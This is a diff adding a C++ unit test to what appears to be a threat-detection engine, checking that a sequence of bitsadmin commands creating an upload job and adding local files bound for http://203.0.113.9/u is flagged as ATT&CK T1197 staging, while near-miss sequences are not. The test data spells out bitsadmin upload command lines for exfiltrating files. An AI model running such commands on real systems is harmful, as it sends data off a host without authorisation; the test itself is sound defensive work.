@@ -97,6 +97,41 @@ TEST(Staging, WhatWebServersAndWindowsKeepIsSentByRight) {
   EXPECT_EQ(severity_of(hidden.context->findings[0]), Severity::medium);
 }
 
+TEST(Staging, FilesOfJobsOfBitsThatWereMadeToSend) {
+  const auto bits = [](int seconds, const std::string& arguments, const char* user = "PC\\eve") {
+    return hand_made(FactKind::process, at(seconds), "C:\\Windows\\System32\\bitsadmin.exe",
+                     "p-" + std::to_string(seconds),
+                     {{"CommandLine", "bitsadmin " + arguments}, {"User", user}});
+  };
+  const std::string kAdd = "/addfile \"j 1\" http://203.0.113.9/u C:\\PerfLogs\\hr.dat";
+  const auto run = judge_staging(
+      {bits(0, "/create /upload \"J 1\""), bits(60, kAdd), bits(120, "/resume \"j 1\"")});
+  ASSERT_THAT(run.context->findings, SizeIs(1));
+  EXPECT_GE(severity_of(run.context->findings[0]), Severity::medium);
+  EXPECT_THAT(run.context->findings[0].attack, Contains("T1197"));
+  EXPECT_THAT(story_of(run.context->findings[0]),
+              HasSubstr("the job was made to send by: bitsadmin /create /upload \"J 1\""));
+  const std::vector<std::vector<Fact>> others = {
+      {bits(0, "/create \"j 1\""), bits(60, kAdd)},
+      {bits(0, "/create /upload \"j 2\""), bits(60, kAdd)},
+      {bits(0, "/create /upload \"j 1\"", "PC\\bob"), bits(60, kAdd)},
+      {bits(0, "/create /upload \"j 1\""), bits(30, "/create \"j 1\""), bits(60, kAdd)},
+      {bits(60, "/create /upload \"j 1\""), bits(0, kAdd)},
+      {bits(0, kAdd)}};
+  for (const auto& facts : others)
+    EXPECT_THAT(judge_staging(facts).context->findings, IsEmpty()) << facts.size();
+  // Typed lines have no times.
+  const auto typed = judge_staging(
+      {hand_made(
+           FactKind::script, {}, "", "s-1",
+           {{"ScriptBlockText", "bitsadmin /create /upload j1"}, {"source", "powershell_history"}}),
+       hand_made(
+           FactKind::script, {}, "", "s-2",
+           {{"ScriptBlockText", "bitsadmin /addfile j1 http://203.0.113.9/u C:\\PerfLogs\\a.rar"},
+            {"source", "powershell_history"}})});
+  EXPECT_THAT(typed.context->findings, SizeIs(1));
+}
+
 Fact burst(const std::string& folder, const std::string& documents) {
   return usn_fact("burst", at(0), folder,
                   {{"count", "40"},
